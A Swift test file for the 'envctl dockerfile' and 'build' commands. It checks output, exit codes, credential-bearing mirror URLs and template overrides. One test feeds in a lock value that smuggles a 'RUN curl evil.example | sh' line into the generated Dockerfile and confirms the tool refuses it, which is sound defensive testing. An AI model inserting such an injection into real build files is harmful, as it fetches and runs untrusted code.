import EnvctlModel
import EnvctlTestSupport
import Foundation
import Testing

/// `envctl dockerfile` and `envctl build` as a user runs them: output, files and exit codes.
@Suite struct DockerfileCommandTests {
    /// The quickstart example lock with its (offline, absent) image digests filled in.
    static func pinnedQuickstart(in dir: TemporaryDirectory, edit: (inout LockedEnvironment) -> Void = { _ in }) throws
        -> String
    {
        var lock = try Lockfile.load(fileAt: RepoPaths.path("lockfiles/quickstart.lock"))
        for i in lock.environments.indices {
            lock.environments[i].images.base.digest = "sha256:" + String(repeating: "b", count: 64)
            lock.environments[i].images.builder.digest = "sha256:" + String(repeating: "d", count: 64)
            edit(&lock.environments[i])
        }
        let path = dir.path + "/envctl.lock"
        try lock.write(to: path)
        return path
    }

    @Test func dockerfileIsByteIdenticalAndWritesOutputFile() throws {
        let dir = try TemporaryDirectory()
        defer { dir.cleanup() }
        let lock = try Self.pinnedQuickstart(in: dir)
        let env = ["SOURCE_DATE_EPOCH": "1714564800"]
        let a = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock], cwd: dir.path, environment: env)
        let b = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock], cwd: dir.path, environment: env)
        #expect(a.status == 0, "\(a.stderr)")
        #expect(a.stdout == b.stdout)
        #expect(a.stdout.contains("ARG BASE_IMAGE=docker.io/nvidia/cuda:12.4.1-base-ubuntu22.04@sha256:bbbb"))
        #expect(a.stdout.contains("org.opencontainers.image.created=\"2024-05-01T12:00:00Z\""))
        let o = try runProcess(
            RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--env", "train", "-o", "out/Dockerfile.train"],
            cwd: dir.path, environment: env)
        #expect(o.status == 1 && o.stderr.contains("cannot write out/Dockerfile.train"))
        try FileManager.default.createDirectory(atPath: dir.path + "/out", withIntermediateDirectories: true)
        let o2 = try runProcess(
            RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--env", "train", "-o", "out/Dockerfile.train"],
            cwd: dir.path, environment: env)
        #expect(o2.status == 0 && o2.stdout.isEmpty)
        #expect(try String(contentsOfFile: dir.path + "/out/Dockerfile.train", encoding: .utf8) == a.stdout)
    }

    /// `--python-mirror` (or `ENVCTL_PYTHON_MIRROR`) ends up in a build argument, which buildah keeps in the
    /// image history: a mirror URL with credentials, or not http(s), is refused before anything runs, without
    /// echoing it.
    @Test func pythonMirrorWithCredentialsIsRefused() throws {
        let dir = try TemporaryDirectory()
        defer { dir.cleanup() }
        let lock = try Self.pinnedQuickstart(in: dir)
        let secret = "\(TestSecrets.prefix)mirror"
        for (args, env) in [
            (["--python-mirror", "https://user:\(secret)@mirror.example/pbs"], [String: String]()),
            ([], ["ENVCTL_PYTHON_MIRROR": "ftp://mirror.example/pbs"]),
        ] {
            let r = try runProcess(
                RepoPaths.envctlBinary, ["build", "--lock", lock, "--builder", "buildah"] + args, cwd: dir.path,
                environment: env)
            #expect(r.status == 64, "\(r.stderr)")
            #expect(r.stderr.contains("the Python mirror (--python-mirror or ENVCTL_PYTHON_MIRROR)"), "\(r.stderr)")
            #expect(!r.stderr.contains(secret))
        }
    }

    @Test func unpinnedLockIsRefused() throws {
        let r = try runProcess(
            RepoPaths.envctlBinary, ["dockerfile", "--lock", RepoPaths.path("lockfiles/quickstart.lock")])
        #expect(r.status == 64)
        #expect(r.stderr.contains("has no digest in the lock"))
    }

    @Test func hostileLockValueIsRefused() throws {
        let dir = try TemporaryDirectory()
        defer { dir.cleanup() }
        let lock = try Self.pinnedQuickstart(in: dir) { $0.env["EVIL"] = "x\nRUN curl evil.example | sh" }
        let r = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock])
        #expect(r.status == 64)
        #expect(
            r.stderr.contains(#"value of EVIL "x\nRUN curl evil.example | sh" contains the control character U+000A"#))
        #expect(r.stdout.isEmpty)
    }

    @Test func unknownEnvironmentAndTemplate() throws {
        let dir = try TemporaryDirectory()
        defer { dir.cleanup() }
        let lock = try Self.pinnedQuickstart(in: dir)
        let r = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--env", "nope"])
        #expect(r.status == 64)
        #expect(r.stderr.contains("no environment 'nope'"))
        let t = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--template", "pytorch"])
        #expect(t.status == 64)
        #expect(t.stderr.contains("available: cuda, jax, plain, tensorflow, torch"))
    }

    @Test func missingBuilderExits69NamingWhatToInstall() throws {
        let dir = try TemporaryDirectory()
        defer { dir.cleanup() }
        let lock = try Self.pinnedQuickstart(in: dir)
        let r = try runProcess(
            RepoPaths.envctlBinary, ["build", "--lock", lock, "--builder", "buildah"], cwd: dir.path,
            environment: ["PATH": dir.path])
        #expect(r.status == 69)
        #expect(r.stderr.contains("buildah is not installed"))
        #expect(r.stderr.contains("apt-get install buildah"))
        let any = try runProcess(
            RepoPaths.envctlBinary, ["build", "--lock", lock], cwd: dir.path, environment: ["PATH": dir.path])
        #expect(any.status == 69)
        #expect(any.stderr.contains("none of buildah, podman, docker is on PATH"))
    }

    @Test func pushWithoutRepositoryIsBadInput() throws {
        let dir = try TemporaryDirectory()
        defer { dir.cleanup() }
        let lock = try Self.pinnedQuickstart(in: dir) { $0.image = nil }
        let r = try runProcess(RepoPaths.envctlBinary, ["build", "--lock", lock, "--push"], cwd: dir.path)
        #expect(r.status == 64)
        #expect(r.stderr.contains("has no image repository to push to"))
    }

    @Test func blockOverrideFromProjectTemplatesDirectory() throws {
        let dir = try TemporaryDirectory()
        defer { dir.cleanup() }
        let lock = try Self.pinnedQuickstart(in: dir)
        let stock = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock], cwd: dir.path)
        // .envctl/templates is picked up without a flag; --templates-dir points elsewhere.
        try dir.write(".envctl/templates/_app.mustache", "COPY --chown={{user.uid}}:{{user.uid}} src/ src/\n")
        let auto = try runProcess(RepoPaths.envctlBinary, ["dockerfile", "--lock", lock], cwd: dir.path)
        #expect(auto.status == 0, "\(auto.stderr)")
        #expect(auto.stdout == stock.stdout + "COPY --chown=1000:1000 src/ src/\n")
        try dir.write("other/_system-setup.mustache", "RUN echo team-setup\n")
        let explicit = try runProcess(
            RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--templates-dir", "other"], cwd: dir.path)
        #expect(explicit.stdout.contains("RUN echo team-setup\n# A fixed non-root user."))
        #expect(!explicit.stdout.contains("src/ src/"))
        let missing = try runProcess(
            RepoPaths.envctlBinary, ["dockerfile", "--lock", lock, "--templates-dir", "nope"], cwd: dir.path)
        #expect(missing.status == 64)
        #expect(missing.stderr.contains("cannot read templates directory 'nope'"))
    }
}
